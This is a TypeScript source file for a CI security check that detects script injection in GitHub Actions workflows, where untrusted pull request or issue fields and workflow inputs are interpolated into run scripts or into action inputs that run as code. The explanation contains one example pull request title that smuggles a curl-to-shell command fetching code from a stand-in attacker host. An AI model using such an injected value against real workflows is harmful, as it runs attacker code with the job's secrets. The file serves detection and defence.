import { ciModel, expressionLocation, expressionsIn, parseUses, type CiStep } from '../../targets/ci/jobs.js';
import { CONTEXT_PATH, workflowTaint } from '../../targets/ci/taint.js';
import { asRecord, asString } from '../../targets/yaml/read.js';
import type { YamlPath } from '../../targets/yaml/source.js';
import { defineCheck } from '../define.js';

/** Inputs of workflow_dispatch / workflow_call: someone with write access types them, still not script text. */
const INPUT = /^(inputs|github\.event\.inputs)\.[\w-]+$/;
/**
 * Actions that run an input as code, and those inputs: a `${{ }}` there is substituted into the
 * program text as into a `run:` script.
 */
const CODE_INPUTS: ReadonlyMap<string, readonly string[]> = new Map([
  ['actions/github-script', ['script']],
  ['amadevus/pwsh-script', ['script']],
  ['jannekem/run-python-script-action', ['script']],
  ['cardinalby/js-eval-action', ['expression']],
  ['addnab/docker-run-action', ['options', 'run']],
  ['appleboy/ssh-action', ['script']],
  ['nick-fields/retry', ['command']],
  ['wandalen/wretry.action', ['command']],
  ['azure/cli', ['inlinescript']],
  ['azure/powershell', ['inlinescript']],
  ['mikefarah/yq', ['cmd']],
]);

/**
 * Inputs declared boolean, number or choice (of workflow_dispatch) wherever they are declared:
 * GitHub checks their value, which cannot hold shell text.
 */
function typedInputs(on: unknown): ReadonlySet<string> {
  const safe = new Map<string, boolean>();
  for (const event of ['workflow_dispatch', 'workflow_call']) {
    for (const [name, input] of Object.entries(asRecord(asRecord(asRecord(on)?.[event])?.inputs) ?? {})) {
      const type = asString(asRecord(input)?.type)?.trim();
      const checked = type === 'boolean' || type === 'number' || (type === 'choice' && event === 'workflow_dispatch');
      safe.set(name, (safe.get(name) ?? true) && checked);
    }
  }
  return new Set([...safe].filter(([, checked]) => checked).map(([name]) => name));
}

function codeInputs(uses: string | undefined): readonly string[] {
  return uses === undefined ? [] : (CODE_INPUTS.get(parseUses(uses).action.toLowerCase()) ?? []);
}

export const expressionInjection = defineCheck({
  id: 'ci/expression-injection',
  title: 'Untrusted event fields are not interpolated into scripts',
  severity: 'high',
  target: 'ci-workflow',
  why:
    '`${{ }}` expressions are substituted into the script text before the shell runs it. A pull request title, issue ' +
    'body, comment, branch name or commit message is written by whoever opens it, so a title like ' +
    '`"; curl -sSf https://evil.example/x | sh; #` becomes shell code that runs with the job\'s token and secrets. ' +
    'The same goes for the `script:` of actions/github-script, which is JavaScript, and for the inputs other actions ' +
    'run as code. A value keeps its origin through env:, step and job outputs, GITHUB_ENV and matrices within the ' +
    'workflow. Inputs of workflow_dispatch are low: only users with write access can dispatch; those of ' +
    'workflow_call medium: the caller may pass a pull request title. Boolean, number and choice inputs cannot hold ' +
    'shell text and are not reported.',
  fix: [
    'Pass the value through an environment variable and quote it; the shell then treats it as data:',
    '',
    '    - name: Announce',
    '      env:',
    '        TITLE: ${{ github.event.pull_request.title }}',
    '      run: echo "Building $TITLE"',
    '',
    'In actions/github-script read `context.payload.pull_request.title` instead of interpolating it.',
  ].join('\n'),
  refs: [
    'GitHub documentation, Security hardening for GitHub Actions: understanding the risk of script injections',
    'GitHub Security Lab, Keeping your GitHub Actions and workflows secure part 2: untrusted input',
    'zizmor template-injection',
    'OWASP Top 10 CI/CD Security Risks CICD-SEC-4 (poisoned pipeline execution)',
  ],
  messages: {
    untrusted: 'step "{step}" interpolates {field} into its {place}, where anyone who opens a pull request or issue controls it',
    input: {
      text: 'step "{step}" interpolates {field} into its {place}: only users with write access can dispatch the workflow, still pass it through env:',
      severity: 'low',
    },
    callerInput: {
      text: 'step "{step}" interpolates {field} into its {place}: the calling workflow chooses it, possibly from a pull request; pass it through env:',
      severity: 'medium',
    },
  },
  peers: [{ tool: 'zizmor', rule: 'template-injection' }],
  claims: [
    {
      about: 'no expression injection in workflows', risk: true,
      names: [
        'expression injection',
        'workflow injection',
        ['script injection', 'workflow*'],
        ['script injection', 'GitHub Actions'],
        ['command injection', 'workflow*'],
        ['command injection', 'GitHub Actions'],
        ['command injection', 'CI'],
        ['shell injection', 'workflow*'],
        ['inject*', 'github.event'],
        ['inject*', 'github-script'],
        ['inject*', 'pull request title*'],
        ['inject*', 'PR title*'],
        ['inject*', 'issue title*'],
        ['inject*', 'issue body'],
        ['inject*', 'branch name*'],
        ['inject*', 'commit message*'],
        ['interpolat*', 'github.event'],
        ['interpolat*', 'run: script*'],
        ['untrusted input*', 'workflow*'],
      ],
    },
  ],
  evaluate(workflow, ctx) {
    const model = ciModel(workflow);
    if (model.jobs.length === 0) return ctx.notApplicable();
    const callable = model.triggers.some((trigger) => trigger.event === 'workflow_call');
    const taint = workflowTaint(model);
    const typed = typedInputs(workflow.data.on);
    const scan = (text: string, path: YamlPath, step: CiStep, place: string, env: ReadonlyMap<string, string>) => {
      if (!text.includes('${{')) return;
      const keyLocation = workflow.at(path);
      if (keyLocation.kind !== 'file') return;
      for (const expression of expressionsIn(text)) {
        const paths = expression.text.match(CONTEXT_PATH) ?? [];
        // `${{ env.TITLE }}` is substituted like any expression: an env var bound to an untrusted field does not help.
        const untrusted = paths.flatMap((candidate) => {
          const origin = taint.origin(candidate, step.job, env);
          if (origin === undefined) return [];
          return origin === candidate ? [candidate] : [`${candidate} (${origin})`];
        });
        const inputs = untrusted.length > 0 ? [] : paths.filter((candidate) => INPUT.test(candidate) && !typed.has(candidate.split('.').pop()!));
        if (untrusted.length === 0 && inputs.length === 0) continue;
        const at = expressionLocation(workflow, keyLocation, text, expression);
        const where = `${step.where}@${expression.offset}`;
        if (untrusted.length > 0) ctx.fail(at, 'untrusted', { step: step.label, field: untrusted.join(', '), place, where });
        else {
          const fromCaller = callable && inputs.some((input) => input.startsWith('inputs.'));
          ctx.fail(at, fromCaller ? 'callerInput' : 'input', { step: step.label, field: inputs.join(', '), place, where });
        }
      }
    };
    for (const job of model.jobs) {
      for (const step of job.steps) {
        const env = taint.stepEnv(step);
        if (step.run !== undefined) scan(step.run, [...step.path, 'run'], step, 'run script', env);
        const code = codeInputs(step.uses);
        for (const [input, value] of Object.entries(step.with)) {
          const script = code.includes(input.toLowerCase()) ? asString(value) : undefined;
          if (script !== undefined) scan(script, [...step.path, 'with', input], step, `"${input}" input of ${parseUses(step.uses!).action}, which runs it as code`, env);
        }
      }
    }
  },
});
